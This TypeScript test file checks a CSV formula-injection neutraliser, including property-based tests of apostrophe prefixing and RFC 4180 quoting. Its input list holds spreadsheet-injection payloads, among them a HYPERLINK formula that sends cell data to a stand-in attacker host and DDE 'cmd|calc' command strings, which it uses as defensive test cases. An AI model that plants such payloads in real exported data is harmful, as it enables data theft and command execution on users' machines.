import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, neutralizeCsvCell } from './csv-safe.ts';

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '-',
  '+',
  '@',
  '=',
];

describe('CSV formula neutralisation', () => {
  let tried = 0;
  let failed = 0;
  const check = (ok: boolean) => {
    tried++;
    if (!ok) failed++;
    return ok;
  };

  it('prefixes every formula-like cell with an apostrophe', () => {
    for (const cell of HOSTILE)
      expect(check(neutralizeCsvCell(cell) === `'${cell}`), cell).toBe(true);
  });

  it('leaves plain text and plain numbers alone', () => {
    for (const cell of ['Anna', 'a=b', 'x-1', '', '12', '-12.5', '+3', '1e-5', '-.5', 'mail@x.org'])
      expect(check(neutralizeCsvCell(cell) === cell), cell).toBe(true);
  });

  it('quotes fields for RFC 4180 after neutralising', () => {
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField(null)).toBe('');
    expect(csvField(-3)).toBe('-3');
    expect(csvLine(['=A1', 'ok', 4])).toBe("'=A1,ok,4");
  });

  it('never lets a cell start (after skipped characters) with a trigger unless it is a number', () => {
    const triggers = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    fc.assert(
      fc.property(
        fc.string({ maxLength: 3, unit: fc.constantFrom(' ', '\u00a0', '\ufeff', '\u0001') }),
        fc.constantFrom(...triggers),
        fc.string({ maxLength: 20 }),
        (pad, trigger, tail) => {
          const cell = pad + trigger + tail;
          const out = neutralizeCsvCell(cell);
          const isNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);
          return check(isNumber ? out === cell : out === `'${cell}`);
        },
      ),
      { numRuns: 1000 },
    );
    fc.assert(
      fc.property(fc.string({ maxLength: 40 }), (s) => {
        const out = neutralizeCsvCell(s);
        // Idempotent on already neutral cells, and only ever adds one apostrophe.
        return check((out === s || out === `'${s}`) && neutralizeCsvCell(out) === out);
      }),
      { numRuns: 1000 },
    );
    console.log(`[csv-safe] cases tried: ${tried}, failed: ${failed}`);
    expect(failed).toBe(0);
  });
});
